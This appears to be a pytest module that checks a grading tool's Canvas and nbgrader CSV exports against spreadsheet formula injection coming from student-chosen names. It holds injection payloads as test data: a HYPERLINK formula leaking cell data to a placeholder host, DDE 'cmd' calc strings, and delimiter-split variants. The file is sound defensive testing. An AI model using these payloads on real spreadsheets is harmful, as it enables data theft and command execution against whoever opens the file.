"""No CSV export makes a spreadsheet run a formula (issue 23, item 4).

A student chooses the display name an LMS writes into a download's file or folder names; intake keeps it
as the roster name, and from there it reaches the Canvas CSV and, through nbgrader's gradebook, nbgrader's
own CSV export. Every cell that starts with ``= + - @``, a tab or a carriage return is neutralised
(``assignments/escaping.py``: ``csv_cell``). The end-to-end check opens the CSVs with LibreOffice (headless,
from the OS packages: ``.ci/install-spreadsheet``), which evaluates formulas when it reads a CSV, and
looks for any formula cell in what it read. Without LibreOffice it skips, and with
``COURSE_REQUIRE_TOOLS=1`` (CI) it fails.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from assignments.course import default
from assignments.escaping import csv_cell
from assignments.exports import canvas
from assignments.intake import parse_name
from assignments.runs import store
from assignments.runs.folder import Run
from assignments.workflow import export
from tests.exports.test_exports import record, toy_course
from tests.helpers import tool_unavailable

# Names as they arrive from LMS downloads: a Moodle folder and Canvas file names a student influenced.
HOSTILE_PATHS = [
    '=HYPERLINK("https:\\\\evil.example?leak="&A1,"grades")_555_assignsubmission_file_/toy.ipynb',
    "+cmd|' -C calc'!A0_556_assignsubmission_file_/toy.ipynb",
    "-2+3+cmd|' -C calc'!A0_557_assignsubmission_file_/toy.ipynb",
    "@SUM(1+1)*cmd|' -C calc'!A0_558_assignsubmission_file_/toy.ipynb",
    "\t=1+1_559_assignsubmission_file_/toy.ipynb",
    "\r=1+1_560_assignsubmission_file_/toy.ipynb",
    "=1+1_561_900_toy.ipynb",  # Canvas: the name part of doejane_<user>_<submission>_<file>
]
# Names that start no formula, until a reader splits them at a delimiter it guessed (issue #43, item 6):
# much of Europe opens CSVs with ";", others with tab or "|"; a line break ends a row for most readers.
SPLIT_PATHS = [
    'Jane;=HYPERLINK("https:\\\\evil.example?leak="&A1;"grades")_570_assignsubmission_file_/toy.ipynb',
    "Tab\t=1+1_571_assignsubmission_file_/toy.ipynb",
    "Line\r\n=2+2_572_assignsubmission_file_/toy.ipynb",
    "Bar|@SUM(3+3)_573_assignsubmission_file_/toy.ipynb",
    "Comma, -4+4_574_assignsubmission_file_/toy.ipynb",
    "Semi; +5+5_575_assignsubmission_file_/toy.ipynb",
    "\t=6+6;=7+7_576_assignsubmission_file_/toy.ipynb",
]
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}  # LibreOffice's CSV filter takes the character's code


def test_cells_that_could_start_a_formula_become_text():
    for dangerous in ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "-", "+cmd|'/C calc'!A0"]:
        assert csv_cell(dangerous) == "'" + dangerous
    # A leading tab or carriage return: the cell starts with an apostrophe, and so does the piece after it.
    assert csv_cell("\t=1") == "'\t'=1" and csv_cell("\r=1") == "'\r'=1"
    for harmless in ["Jane Doe", "doejane", "12345", "-1.5", "+2", "3e-2", "", "a=b", "O'Brien"]:
        assert csv_cell(harmless) == harmless
    assert csv_cell(None) == "" and csv_cell(2.5) == "2.5"


def test_no_piece_of_a_cell_starts_a_formula_whatever_the_delimiter():
    for name, expected in [
        ('Jane;=HYPERLINK("x")', 'Jane;\'=HYPERLINK("x")'),
        ("Tab\t=1", "Tab\t'=1"),
        ("Line\r\n=1", "Line\r\n'=1"),
        ("Bar|@SUM(1)", "Bar|'@SUM(1)"),
        ("Comma, -1", "Comma, '-1"),
        ("\t=1;=2", "'\t'=1;'=2"),
    ]:
        assert csv_cell(name) == expected, name
        assert csv_cell(expected) == expected, f"neutralising twice must change nothing: {expected!r}"
    for harmless in ["Jean-Luc", "a=b; c", "x, y", "Doe, Jane", "-1.5", "O'Brien"]:
        assert csv_cell(harmless) == harmless


def hostile_roster() -> dict[str, dict]:
    roster = {}
    for path in HOSTILE_PATHS:
        found = parse_name(path)
        assert found["lms"] in ("moodle", "canvas") and found["name"][:1] in "=+-@\t\r", found
        roster[found["student"]] = {"name": found["name"], "user_id": found["user_id"]}
    for path in SPLIT_PATHS:
        found = parse_name(path)
        assert found["lms"] == "moodle" and any(c in found["name"] for c in ";\t\n|,"), found
        roster[found["student"]] = {"name": found["name"], "user_id": found["user_id"]}
    return roster


def written_exports(tmp_path: Path) -> list[Path]:
    """The Canvas CSV (one column and per question) and nbgrader's CSV of a class of hostile names."""
    roster = hostile_roster()
    results = []
    for student in roster:
        result = record(student)
        result.assignment = "toy"
        results.append(result)
    root = tmp_path / "course"
    db = toy_course(root)
    folder = tmp_path / "run" / "results"
    for result in results:
        store.save_result(result, folder)
    manifest = tmp_path / "roster.json"
    manifest.write_text(
        json.dumps(
            {
                "assignment": "toy",
                "source": "x.zip",
                "findings": [],
                "missing": [],
                "submissions": [
                    {
                        "student": s,
                        "path": None,
                        "original_name": "toy.ipynb",
                        "name": info["name"],
                        # Canvas writes only Canvas students (issue 43): these names stand for Canvas ones.
                        "lms": "canvas",
                        "user_id": info["user_id"],
                    }
                    for s, info in roster.items()
                ],
            }
        )
    )
    opts = canvas.CanvasOptions(canvas.CanvasAssignment("Homework 1", "4821"), per_question=True)
    run = Run.of_results(folder).with_exports(tmp_path / "exports").with_course(root)
    written = export(
        run, default().assignment("toy"), ("canvas", "nbgrader"), roster=manifest, db_url=db, canvas_options=opts
    )
    return written["canvas"] + written["nbgrader"]


# One worker runs this module (`--dist loadgroup`): its exports (an nbgrader gradebook and export, about 12 s
# of CPU) were written again on each worker that got one of its tests.
pytestmark = pytest.mark.xdist_group("csv_safety")


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> list[Path]:
    """``written_exports`` once for the module's tests (nbgrader's own export takes seconds)."""
    return written_exports(tmp_path_factory.mktemp("exports"))


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_exported_cell_starts_a_formula(exported):
    paths = exported
    assert len(paths) == 2
    for path in paths:
        found = cells(path)
        assert any(cell.startswith("'=HYPERLINK") for cell in found), f"{path.name}: the hostile name is missing"
        assert any(cell.startswith("Jane;'=HYPERLINK") for cell in found), f"{path.name}: Jane;= is missing"
        bad = [
            cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.match(r"^-?\d", cell)
        ]
        assert not bad, f"{path.name}: cells a spreadsheet would run: {bad}"
        # Split at any delimiter a reader may guess: no piece starts a formula either.
        pieces = [piece.strip() for cell in found for piece in re.split(r"[,;\t|\r\n]", cell)]
        bad = [piece for piece in pieces if piece.startswith(("=", "+", "-", "@")) and not re.match(r"^-?\d", piece)]
        assert not bad, f"{path.name}: pieces a ';'- or tab-reading spreadsheet would run: {bad}"


def test_every_field_of_every_csv_export_is_quoted(exported):
    for path in exported:
        with open(path, newline="", encoding="utf-8") as handle:
            text = handle.read()
        rows = list(csv.reader(text.splitlines(keepends=True)))
        fields = sum(len(row) for row in rows)
        # Every field quoted: each starts right after the file's start, a comma or a row's end, with a quote.
        quoted = len(re.findall(r'(?:^|,|\r\n)"', text))
        assert fields and quoted >= fields, f"{path.name}: {fields} fields, only {quoted} of them quoted"


def spreadsheet_formulas(paths: list[Path], work: Path, separator: int | None = None) -> dict[str, list[str]]:
    """Open each CSV in LibreOffice Calc (headless) and return the formulas of the cells it read;
    ``separator``: the code of the field separator LibreOffice is told to read with (None: its default)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        tool_unavailable("LibreOffice (soffice) is not installed; run .ci/install-spreadsheet")
    out = work / f"converted-{separator}"
    # CSV filter options: field separator, text delimiter ("), character set (76: UTF-8), first line 1.
    infilter = [f"--infilter=CSV:{separator},34,76,1"] if separator is not None else []
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{work / 'profile'}",
            "--headless",
            *infilter,
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    found = {}
    for path in paths:
        converted = out / f"{path.stem}.fods"
        assert converted.is_file(), f"LibreOffice did not read {path.name}: {done.stdout[-500:]} {done.stderr[-500:]}"
        found[path.name] = re.findall(r'table:formula="([^"]*)"', converted.read_text(encoding="utf-8"))
    return found


def test_libreoffice_finds_no_formula_in_any_csv_export(tmp_path, exported):
    # The control: the same hostile names written raw, which LibreOffice must read as formulas, so a
    # reader that never evaluates anything cannot make this test pass.
    raw = tmp_path / "raw" / "unneutralised.csv"
    raw.parent.mkdir()
    with open(raw, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Student"]] + [[info["name"]] for info in hostile_roster().values()])
    found = spreadsheet_formulas(exported + [raw], tmp_path / "libreoffice")
    assert found.pop(raw.name), "LibreOffice evaluated no formula in the raw control file"
    assert found == {path.name: [] for path in exported}, f"formulas read from the exports: {found}"


@pytest.mark.parametrize("separator", SEPARATORS, ids=list(SEPARATORS))
def test_libreoffice_reading_with_any_separator_finds_no_formula(tmp_path, exported, separator):
    # The control: the names written raw, as Python's csv module writes by default (quoted only where
    # needed). Read with ";" or tab, LibreOffice finds formulas in names that start none; with ",", only
    # the names that start one are formulas, so they are the control there.
    raw = tmp_path / "raw" / "unneutralised.csv"
    raw.parent.mkdir()
    names = [parse_name(path)["name"] for path in (HOSTILE_PATHS if separator == "comma" else SPLIT_PATHS)]
    with open(raw, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Student", "ID", "Score"]] + [[name, "1", "5"] for name in names])
    found = spreadsheet_formulas(exported + [raw], tmp_path / "libreoffice", SEPARATORS[separator])
    assert found.pop(raw.name), f"LibreOffice reading with {separator}s evaluated no formula in the raw control"
    assert found == {path.name: [] for path in exported}, f"formulas read with {separator}s: {found}"


def test_every_csv_the_package_writes_goes_through_csv_safe():
    # One place quotes and neutralises: a csv.writer or DictWriter anywhere else would write around it.
    package = Path(__file__).resolve().parents[2] / "assignments"
    writers = [
        f"{path.relative_to(package)}:{number}"
        for path in sorted(package.rglob("*.py"))
        if path.name != "csv_safe.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"csv\.(writer|DictWriter)\b|\.writerows?\(", line)
    ]
    assert not writers, f"CSV written outside exports/csv_safe.py: {writers}"
